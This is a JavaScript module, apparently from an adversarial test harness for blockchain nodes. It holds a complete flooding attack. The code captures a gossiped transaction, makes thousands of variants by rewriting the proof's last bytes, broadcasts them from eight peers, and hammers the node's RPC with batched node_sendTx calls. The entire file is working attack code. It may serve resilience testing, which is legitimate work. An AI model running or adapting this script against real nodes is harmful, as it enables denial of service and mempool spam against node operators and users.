// Sixteen thousand copies of transactions that the network knows: half by gossip, each with another end of its proof
// and so another message of the same transaction, half by RPC, as they are.
import { decodeTx, encodeTx } from "@sprtn/protocol";
import { jsFieldHasher } from "@sprtn/primitives";
import { pause, startPeer } from "./peer.mjs";

const COPIES = 16_000;
const PEERS = 8;
const AT_ONCE = 20;

export async function attack(target, signal) {
  const counts = { gossiped: 0, posted: 0, refused: 0 };
  let copies = 0;
  const heard = { bytes: undefined };
  const tx = ({ data }) => {
    try {
      decodeTx(jsFieldHasher, data);
      heard.bytes = data;
    } catch {
      // Another attacker's garbage.
    }
  };
  const nodes = await Promise.all(Array.from({ length: PEERS }, () => startPeer(target, { tx })));
  while (heard.bytes === undefined && !signal.aborted) await pause(100, signal);
  const post = async () => {
    const params = [`0x${Buffer.from(heard.bytes).toString("hex")}`];
    const calls = Array.from({ length: AT_ONCE }, (_, id) => ({ jsonrpc: "2.0", id, method: "node_sendTx", params }));
    const body = JSON.stringify(calls);
    const headers = { "content-type": "application/json" };
    const response = await fetch(target.rpc, { method: "POST", headers, body, signal }).catch(() => undefined);
    await response?.arrayBuffer().catch(() => {});
    if (response?.status === 200) counts.posted += AT_ONCE;
    else counts.refused++;
  };
  while (!signal.aborted && heard.bytes !== undefined && counts.gossiped + counts.posted < COPIES) {
    const known = decodeTx(jsFieldHasher, heard.bytes);
    for (const node of nodes)
      for (let i = 0; i < AT_ONCE && counts.gossiped < COPIES / 2; i++) {
        const proof = Uint8Array.from(known.proof);
        new DataView(proof.buffer).setUint32(Math.max(0, proof.length - 4), ++copies);
        // A node publishes no more than its peers take: the rest comes in the next round.
        const sent = node.publish("tx", encodeTx({ ...known, proof }));
        void sent.then(() => counts.gossiped++).catch(() => {});
      }
    if (counts.posted < COPIES / 2) await post();
    await pause(200, signal);
  }
  await Promise.all(nodes.map(node => node.stop().catch(() => {})));
  return counts;
}
